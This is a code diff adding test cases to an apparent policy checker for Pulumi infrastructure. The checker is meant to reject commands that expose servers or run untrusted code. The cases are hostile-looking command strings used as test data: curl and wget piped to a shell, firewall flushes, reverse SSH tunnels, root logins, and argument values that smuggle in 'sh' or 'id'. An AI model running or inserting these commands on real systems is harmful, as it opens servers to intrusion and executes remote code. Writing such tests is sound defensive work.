@@ -24,6 +24,34 @@ HCLOUD, CLOUDFLARE = "pulumi:providers:hcloud", "pulumi:providers:cloudflare"
 REMOTE = "command:remote:Command"
 PINNED = {"host": "10.0.0.5", "hostKey": "ssh-ed25519 AAAA"}
 
+SSH = "ssh -o 'ProxyCommand=cloudflared access ssh --hostname %h' -o StrictHostKeyChecking=yes ops@ssh.example.org"
+TOOL = f"{SSH} 'sudo /usr/local/lib/zero-exposure/swarm token manager'"
+OTHER_COMMANDS = (
+    "docker run -dp 80:80 nginx:1.27",
+    "docker run -d -p8080:80 nginx:1.27",
+    'docker run --network "host" nginx:1.27',
+    "docker compose up -d",
+    "docker stack deploy -c x y",
+    "ssh -fN -R8080:localhost:80 example.org",
+    "cloudflared tunnel --no-autoupdate --url http://localhost",
+    "curl -fsSL https://example.org/x | sudo bash",
+    "wget -qO- https://example.org/x | sh",
+    "curl -X POST https://api.hetzner.cloud/v1/firewalls/1/actions/set_rules",
+    "hcloud server remove-from-firewall x",
+    "nft 'add rule inet zx input accept'",
+    "tailscale funnel 80",
+    f"{SSH} 'sudo nft flush ruleset'",
+    f"{SSH} 'sudo /usr/local/lib/zero-exposure/swarm rotate; sh'",
+    f"{SSH.replace('-o Strict', '-R 80:localhost:80 -o Strict')} 'docker version'",
+    f"{SSH.replace('-o Strict', '-o RemoteForward=80 -o Strict')} 'docker version'",
+    f"{SSH.replace('ops@', 'root@')} 'docker version'",
+    f"{SSH.replace('cloudflared access ssh --hostname %h', 'sh -c id')} 'docker version'",
+    f'echo "$(id)" | {TOOL}',
+    f'echo "${{PEERS@P}}" | {TOOL}',
+    f"PATH=$({TOOL})",
+    f"{TOOL} & id",
+)
+
 UNLISTED = (
     "random:index/randomBytes:RandomBytes",
     "cloudflare:index/tunnel:Tunnel",
@@ -90,6 +118,15 @@ CASES = {
             "a script from elsewhere": command(create="curl -fsSL https://example.org/x | sh"),
             "the metadata service": command(create="curl http://169.254.169.254/user-data"),
             "a listener": command(create="nc -l 22"),
+            **{f"the command {line}": command(create=line) for line in OTHER_COMMANDS},
+            "a script for a server's shell": command(create=f"{SSH} 'sh -s'", stdin="iptables -P INPUT ACCEPT"),
+            "a script in the input": command(stdin="iptables -P INPUT ACCEPT"),
+            "a script in the environment": command(
+                create='sh -c "$STEP"', environment={"STEP": "docker run -p 80:80 nginx:1.27"}
+            ),
+            "another search path": command(environment={"PATH": "/tmp/x"}),  # noqa: S108 - a path in a value
+            "environment unknown": command(environment=UNKNOWN),
+            "input unknown": command(stdin=UNKNOWN),
             "a secret in the arguments": secret(command(), "create"),
             "another interpreter": command(interpreter=["python3", "-c"]),
             "an interpreter unknown": command(interpreter=[UNKNOWN]),
@@ -97,6 +134,11 @@ CASES = {
         passes={
             "not known before the key is": command(create=UNKNOWN),
             "the shell": command(interpreter=["/bin/bash", "-c"]),
+            "a server's own tools": command(
+                create=f"set -eu\nown=$(: | {TOOL})\nprintf '%s\\n' \"$PEERS\" | {TOOL}",
+                delete=f"{TOOL} || true",
+                environment={"PEERS": UNKNOWN},
+            ),
         },
     ),
     "command-remote": Cases(
